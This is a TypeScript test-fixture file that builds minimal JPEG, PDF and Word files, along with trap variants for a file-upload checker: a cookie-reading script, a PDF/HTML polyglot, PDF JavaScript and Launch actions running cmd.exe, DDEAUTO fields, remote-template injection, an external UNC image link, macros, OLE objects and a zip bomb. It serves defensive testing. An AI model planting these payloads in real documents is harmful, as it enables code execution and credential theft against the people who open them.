// Real, tiny files built byte by byte for the documents tests: a baseline JPEG, a PDF with
// a correct cross-reference table, and ZIP archives (a minimal .docx and others) written
// with deflate and CRC-32 like any archiver would.
import { crc32, deflateRawSync, deflateSync } from "node:zlib";

/**
 * An 8×8 grey baseline JPEG (JFIF): SOI, APP0, DQT, SOF0, two one-code Huffman tables,
 * SOS, one entropy-coded byte (DC difference 0, end of block), EOI.
 */
export function tinyJpeg(): Buffer {
  const hex = (s: string) => Buffer.from(s.replace(/\s+/g, ""), "hex");
  const oneCodeTable = (classAndId: string) => hex(`FFC4 0014 ${classAndId} 01 ${"00".repeat(15)} 00`);
  return Buffer.concat([
    hex("FFD8"),
    hex("FFE0 0010 4A46494600 0101 00 0001 0001 00 00"),
    hex(`FFDB 0043 00 ${"01".repeat(64)}`),
    hex("FFC0 000B 08 0008 0008 01 01 11 00"),
    oneCodeTable("00"),
    oneCodeTable("10"),
    hex("FFDA 0008 01 01 00 00 3F 00"),
    hex("3F"),
    hex("FFD9"),
  ]);
}

/** A one-page PDF 1.4 whose xref offsets are computed, so any reader opens it. */
export function tinyPdf(): Buffer {
  return pdfOf({});
}

/**
 * The same PDF with extra objects (numbered from 5), an /OpenAction on the catalog (naming
 * one of them) and/or text right after the header (where a polyglot hides its page).
 */
export function pdfOf(opts: { extra?: string[]; catalog?: string; afterHeader?: string }): Buffer {
  const content = "0 0 1 rg 20 20 160 160 re f";
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R${opts.catalog ? ` ${opts.catalog}` : ""} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ...(opts.extra ?? []),
  ];
  let out = "%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n" + (opts.afterHeader ?? "");
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, "latin1"));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

/** A ZIP archive (deflate) of the given entries: local headers, central directory, EOCD. */
export function zipArchive(entries: { name: string; text: string }[], opts: { comment?: string } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, text } of entries) {
    const data = Buffer.from(text, "utf8");
    const nameBytes = Buffer.from(name, "utf8");
    const packed = deflateRawSync(data);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, packed);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const comment = Buffer.from(opts.comment ?? "", "utf8");
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  eocd.writeUInt16LE(comment.length, 20);
  return Buffer.concat([...locals, cd, eocd, comment]);
}

export const DOCX_PARTS = {
  contentTypes: {
    name: "[Content_Types].xml",
    text:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
      "</Types>",
  },
  rels: {
    name: "_rels/.rels",
    text:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
      "</Relationships>",
  },
  document: {
    name: "word/document.xml",
    text:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
      "<w:p><w:pPr><w:bidi/></w:pPr><w:r><w:rPr><w:rtl/></w:rPr><w:t>قرارداد</w:t></w:r></w:p></w:body></w:document>",
  },
};

/** The smallest package Word opens: content types, the package relationship, the body. */
export function tinyDocx(): Buffer {
  return zipArchive([DOCX_PARTS.contentTypes, DOCX_PARTS.rels, DOCX_PARTS.document]);
}

export function htmlFile(): Buffer {
  return Buffer.from('<!DOCTYPE html><html lang="fa"><body><script>alert(document.cookie)</script></body></html>', "utf8");
}

// Traps for the reviewer: files that are really PDFs or Word documents (they pass the type
// check) but carry a web page, a script, a program or a link to the outside.

/** A PDF that is also a web page: a browser that sniffs it (or a file saved as .html) runs the script. */
export function pdfHtmlPolyglot(): Buffer {
  return pdfOf({
    afterHeader: '%<!DOCTYPE html><html><body><script>fetch("/api/session").then(r=>r.text()).then(alert)</script></body></html>\n',
  });
}

/** A PDF whose /OpenAction runs JavaScript; `name` spells the action's name (e.g. "J#61vaScript"). */
export function pdfWithJavaScript(name = "JavaScript"): Buffer {
  return pdfOf({
    catalog: "/OpenAction 5 0 R",
    extra: [`<< /Type /Action /S /${name} /${name === "JavaScript" ? "JS" : "J#53"} (app.alert(1)) >>`],
  });
}

export function pdfWithLaunch(): Buffer {
  return pdfOf({
    catalog: "/OpenAction 5 0 R",
    extra: ["<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"],
  });
}

export function pdfWithEmbeddedFile(): Buffer {
  const data = "MZ-not-really-a-program";
  return pdfOf({
    catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
    extra: [
      `<< /Type /EmbeddedFile /Length ${data.length} >>\nstream\n${data}\nendstream`,
      "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
    ],
  });
}

/** The JavaScript action inside a compressed object stream (PDF 1.5), invisible to a plain byte scan. */
export function pdfWithJavaScriptInObjectStream(): Buffer {
  const inner = "6 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>";
  const packed = deflateSync(Buffer.from(inner, "latin1"));
  return Buffer.concat([
    Buffer.from(`%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`, "latin1"),
    packed,
    Buffer.from("\nendstream\nendobj\n", "latin1"),
    pdfOf({ catalog: "/OpenAction 6 0 R" }).subarray("%PDF-1.4\n".length),
  ]);
}

/** A JPEG with a web page in a comment segment (COM), before its end marker. */
export function jpegWithHtml(): Buffer {
  const jpeg = tinyJpeg();
  const html = Buffer.from("<html><body><script>alert(1)</script></body></html>", "latin1");
  const com = Buffer.alloc(4);
  com.writeUInt16BE(0xfffe, 0);
  com.writeUInt16BE(html.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), com, html, jpeg.subarray(2)]);
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A .docx with the given parts added to (or replacing) the minimal package. */
export function docxWith(parts: { name: string; text: string }[]): Buffer {
  const names = new Set(parts.map((p) => p.name));
  return zipArchive([...[DOCX_PARTS.contentTypes, DOCX_PARTS.rels, DOCX_PARTS.document].filter((p) => !names.has(p.name)), ...parts]);
}

function documentRels(rels: string): { name: string; text: string } {
  return {
    name: "word/_rels/document.xml.rels",
    text: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`,
  };
}

function body(inner: string): { name: string; text: string } {
  return {
    name: "word/document.xml",
    text: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document ${W} ${R}><w:body>${inner}</w:body></w:document>`,
  };
}

/** A picture linked from a server: Word fetches it on open (and sends the reviewer's credentials to it). */
export function docxWithExternalRelationship(): Buffer {
  return docxWith([
    documentRels(`<Relationship Id="rId9" Type="${REL}/image" Target="\\\\203.0.113.9\\share\\x.png" TargetMode="External"/>`),
  ]);
}

/** settings.xml names a template on a server (the classic template-injection phish). */
export function docxWithAttachedTemplate(): Buffer {
  return docxWith([
    { name: "word/settings.xml", text: `<?xml version="1.0"?><w:settings ${W} ${R}><w:attachedTemplate r:id="rId1"/></w:settings>` },
    {
      name: "word/_rels/settings.xml.rels",
      text: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://203.0.113.9/t.dotm"/></Relationships>`,
    },
  ]);
}

/** A DDEAUTO field split over two runs, as Word stores it (the command runs when fields update). */
export function docxWithDdeField(): Buffer {
  return docxWith([
    body(
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>' +
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ),
  ]);
}

/** The same with w:fldSimple and an entity-encoded "D" (&#68;). */
export function docxWithDdeSimpleField(): Buffer {
  return docxWith([body('<w:p><w:fldSimple w:instr=" &#68;DE cmd.exe &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')]);
}

export function docxWithMacros(): Buffer {
  return docxWith([
    {
      name: "[Content_Types].xml",
      text: DOCX_PARTS.contentTypes.text.replace("wordprocessingml.document.main+xml", "wordprocessingml.document.macroEnabled.main+xml"),
    },
    { name: "word/vbaProject.bin", text: 'Attribute VB_Name = "ThisDocument"' },
  ]);
}

/** Macro content type only (no vbaProject.bin in the directory, e.g. renamed). */
export function docxWithMacroContentType(): Buffer {
  return docxWith([
    {
      name: "[Content_Types].xml",
      text: DOCX_PARTS.contentTypes.text.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.12"),
    },
  ]);
}

export function docxWithOleObject(): Buffer {
  return docxWith([
    body(
      '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rId7"/></w:object></w:r></w:p>',
    ),
    documentRels(`<Relationship Id="rId7" Type="${REL}/oleObject" Target="embeddings/oleObject1.bin"/>`),
    { name: "word/embeddings/oleObject1.bin", text: "ole" },
  ]);
}

/** A small deflated entry that claims nothing odd but inflates to 30 MB of spaces (a zip bomb). */
export function docxZipBomb(): Buffer {
  return docxWith([{ name: "word/styles.xml", text: " ".repeat(30 * 1024 * 1024) }]);
}

/** A clean Word file with what real ones have: styles, settings, an internal relationship, a hyperlink-free body. */
export function cleanDocx(): Buffer {
  return docxWith([
    body("<w:p><w:pPr><w:bidi/></w:pPr><w:r><w:t>فهرست قراردادها: ۱۲ قرارداد با سازمان‌ها (INCLUDE نیست؛ فقط متن)</w:t></w:r></w:p>"),
    { name: "word/settings.xml", text: `<?xml version="1.0"?><w:settings ${W}><w:zoom w:percent="100"/></w:settings>` },
    { name: "word/styles.xml", text: `<?xml version="1.0"?><w:styles ${W}><w:style w:type="paragraph" w:styleId="Normal"/></w:styles>` },
    documentRels(
      `<Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/>`,
    ),
  ]);
}
